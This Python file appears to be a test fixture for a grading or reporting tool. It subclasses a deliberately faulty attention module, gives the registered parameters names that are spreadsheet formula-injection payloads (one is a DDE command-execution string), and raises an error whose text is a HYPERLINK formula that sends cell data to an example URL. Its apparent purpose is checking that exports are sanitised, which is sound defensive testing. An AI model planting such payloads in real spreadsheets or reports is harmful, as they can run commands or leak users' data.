import torch

from wrong import MultiHeadAttention as Wrong


class MultiHeadAttention(Wrong):
    def __init__(self, d_model, num_heads, dropout=0.0, causal=True):
        super().__init__(d_model, num_heads, dropout, causal)
        for name in ("=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", '"=1"'):
            self.register_parameter(name, torch.nn.Parameter(torch.zeros(3)))


def scaled_dot_product_attention(q, k, v, mask=None):
    raise ValueError('=HYPERLINK("https://example.com/?"&A1,"see the feedback")')
